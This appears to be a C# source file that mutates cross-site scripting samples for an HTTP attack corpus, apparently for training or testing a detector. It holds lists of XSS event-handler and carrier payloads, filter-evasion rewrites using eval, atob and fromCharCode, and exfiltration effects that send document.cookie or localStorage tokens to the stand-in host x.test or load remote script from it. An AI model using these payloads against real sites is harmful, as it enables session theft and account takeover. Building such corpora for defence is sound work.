using System.Globalization;
using System.Text;
using System.Text.RegularExpressions;
using Weir.Numerics;

namespace Weir.Http.Corpus.Mutation;

/// <summary>Rewrites of cross-site scripting that move the script to another tag, handler or sink.</summary>
internal static partial class ScriptMutators
{
    private static readonly AttackClass[] s_xss = [AttackClass.Xss];

    private static readonly string[] s_handlers =
    [
        "<img src=x onerror=", "<svg onload=", "<svg/onload=", "<body onload=", "<video src=x onerror=", "<audio src onerror=", "<details open ontoggle=", "<input autofocus onfocus=",
        "<select autofocus onfocus=", "<textarea autofocus onfocus=", "<marquee onstart=", "<iframe onload=", "<object data=x onerror=", "<div onmouseover=", "<a href=# onclick=", "<p onpointerenter=",
        "<button popovertarget=x onclick=", "<video><source onerror=", "<style onload=", "<link rel=stylesheet href=x onerror=", "<embed src=x onload=", "<x contenteditable autofocus onfocus=",
        "<image src=x onerror=", "<b onclick=", "<form onsubmit=", "<svg><animate onbegin=", "<xss tabindex=1 onfocus=", "<input onchange=", "<body onpageshow=", "<svg><set onend=",
    ];

    private static readonly string[] s_carriers =
    [
        "<img src=x onerror=\"{js}\">", "<svg onload=\"{js}\">", "<svg><script>{js}</script>", "<iframe srcdoc=\"<script>{js}</script>\">", "<a href=\"javascript:{js}\">x</a>",
        "<iframe src=\"javascript:{js}\">", "<object data=\"javascript:{js}\">", "<form action=\"javascript:{js}\"><input type=submit>", "<math><a xlink:href=\"javascript:{js}\">x",
        "<body onload=\"{js}\">", "<details open ontoggle=\"{js}\">", "<input autofocus onfocus=\"{js}\">", "<video><source onerror=\"{js}\">", "<b style=\"animation-name:x\" onanimationstart=\"{js}\">",
        "javascript:{js}", "<script>{js}//", "<script/x>{js}</script>", "<embed src=\"javascript:{js}\">", "<meta http-equiv=refresh content=\"0;url=javascript:{js}\">",
        "<script src=\"data:text/javascript,{js}\"></script>", "<button formaction=\"javascript:{js}\">x", "<script type=module>{js}</script>", "<svg><a href=\"javascript:{js}\"><text y=9>x",
    ];

    private static readonly string[] s_breakouts = ["\">", "'>", "\"/>", "</title>", "</textarea>", "</script>", "-->", "</style>", "]]>", "\"><b>", "</div>", "x\">", "</select>", "</noscript>", "`>", "*/", "\\\">", "'\">", "</a>"];

    internal static readonly Mutator[] All =
    [
        new("html-handler-tag", MutationStage.Meaning, s_xss, static (text, random) => HandlerTag().Replace(text, _ => random.Pick<string>(s_handlers), 1), training: 3),
        new("html-carrier", MutationStage.Meaning, s_xss, static (text, random) => ScriptElement().Replace(text, m => random.Pick<string>(s_carriers).Replace("{js}", m.Groups["js"].Value, StringComparison.Ordinal), 1), training: 3),
        new("html-breakout", MutationStage.Meaning, s_xss, static (text, random) => text.StartsWith('<') ? random.Pick<string>(s_breakouts) + text : null, training: 2),
        new("html-attribute", MutationStage.Meaning, s_xss, static (text, random) => TagName().Replace(text, m => m.Value + random.Pick<string>([" class=x", "/x=y", " id=\"a\"", " style=\"color:red\"", " data-a='1'", " x", "/", " hidden"]), 1)),
        new("html-attribute-only", MutationStage.Meaning, s_xss, AttributeOnly, training: 2),
        new("html-open-end", MutationStage.Meaning, s_xss, static (text, random) => text.EndsWith('>') && !text.EndsWith("-->", StringComparison.Ordinal) ? text[..^1] + random.Pick<string>(["", " ", "//", " x=", " <", "\n", "<!--"]) : null),
        new("js-sink", MutationStage.Meaning, s_xss, static (text, random) => DialogCall().Replace(text, m => Sink(m.Groups["f"].Value, m.Groups["a"].Value, random)), training: 3),
        new("js-effect", MutationStage.Meaning, s_xss, static (text, random) => DialogCall().Replace(text, _ => Effect(random))),
    ];

    private static string? AttributeOnly(string text, SeededRandom random)
    {
        Match found = WholeHandler().Match(text);
        if (!found.Success)
        {
            return null;
        }

        string script = found.Groups["js"].Value;
        string handler = found.Groups["h"].Value;
        return random.Next(6) switch
        {
            0 => $"\" {handler}={script} x=\"",
            1 => $"' autofocus onfocus={script} x='",
            2 => $"\" autofocus onfocus=\"{script}",
            3 => $"x onmouseover={script}",
            4 => $"\"onclick={script}//",
            _ => $"' style=position:fixed;inset:0 onmouseover='{script}",
        };
    }

    private static string Sink(string f, string a, SeededRandom random)
    {
        string quote = a.Contains('\'', StringComparison.Ordinal) ? "`" : "'";
        int cut = f.Length / 2;
        return random.Next(22) switch
        {
            0 => $"eval({quote}{f[..cut]}{quote}+{quote}{f[cut..]}({a}){quote})",
            1 => $"setTimeout({quote}{f}({a}){quote})",
            2 => $"setTimeout({f},0,{Argument(a)})",
            3 => $"Function({quote}{f}({a}){quote})()",
            4 => $"[].constructor.constructor({quote}{f}({a}){quote})()",
            5 => $"import({quote}data:text/javascript,{f}({a}){quote})",
            6 => $"location={quote}javascript:{f}({a}){quote}",
            7 => $"throw onerror={f},{Argument(a)}",
            8 => $"{{onerror={f}}}throw {Argument(a)}",
            9 => $"eval(atob({quote}{Convert.ToBase64String(Encoding.UTF8.GetBytes($"{f}({a})"))}{quote}))",
            10 => $"eval(String.fromCharCode({string.Join(',', $"{f}({a})".Select(static c => ((int)c).ToString(CultureInfo.InvariantCulture)))}))",
            11 => $"with(window){f}({a})",
            12 => $"{f}.apply(0,[{a}])",
            13 => $"Reflect.apply({f},0,[{a}])",
            14 => $"setInterval({f},9,{Argument(a)})",
            15 => $"self[/{f[..cut]}/.source+/{f[cut..]}/.source]({a})",
            16 => $"(a={f},b={Argument(a)},a(b))",
            17 => $"new Function`{f}\\x28{a}\\x29```",
            18 => $"document.body.innerHTML=`<img src=x onerror={f}({a})>`",
            19 => $"[{Argument(a)}].map({f})",
            20 => $"Promise.resolve({a}).then({f})",
            _ => $"window.onerror={f};x.y",
        };

        static string Argument(string a) => a.Length == 0 ? "1" : a;
    }

    private static string Effect(SeededRandom random) => random.Pick<string>(
    [
        "fetch(`//x.test/?`+document.cookie)", "new Image().src=`//x.test/`+document.cookie", "location=`//x.test/?c=`+document.cookie", "document.write(document.cookie)", "navigator.sendBeacon(`//x.test`,localStorage.token)",
        "document.location.href=`//x.test`", "open(`//x.test/`+document.cookie)", "document.forms[0].action=`//x.test`", "$.getScript(`//x.test/a.js`)", "import(`//x.test/a.js`)", "document.body.appendChild(document.createElement(`script`)).src=`//x.test/a.js`",
    ]);

    [GeneratedRegex(@"<[a-z][a-z0-9-]{0,12}(?:[\s/][^<>]{0,60}?)?[\s/""']on[a-z]{3,24}\s*=", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant | RegexOptions.ExplicitCapture, 1000)]
    private static partial Regex HandlerTag();

    [GeneratedRegex(@"<script[^<>]{0,40}>(?<js>[^<>""]{1,120})</script\s*>", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant | RegexOptions.ExplicitCapture, 1000)]
    private static partial Regex ScriptElement();

    [GeneratedRegex(@"<[a-z][a-z0-9]{0,10}(?=[\s/])", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant | RegexOptions.ExplicitCapture, 1000)]
    private static partial Regex TagName();

    [GeneratedRegex(@"^[""'>\s]{0,6}<[a-z][^<>]{0,60}?[\s/](?<h>on[a-z]{3,24})\s*=\s*[""']?(?<js>[^""'<>\s]{3,120})[""']?[^<>]{0,40}>?$", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant | RegexOptions.ExplicitCapture, 1000)]
    private static partial Regex WholeHandler();

    [GeneratedRegex(@"(?<![\w.'""`\[\]])(?<f>alert|confirm|prompt)\((?<a>[\w.]{0,24}|'[^'()]{0,16}'|/\w{0,12}/)\)", RegexOptions.CultureInvariant | RegexOptions.ExplicitCapture, 1000)]
    private static partial Regex DialogCall();
}
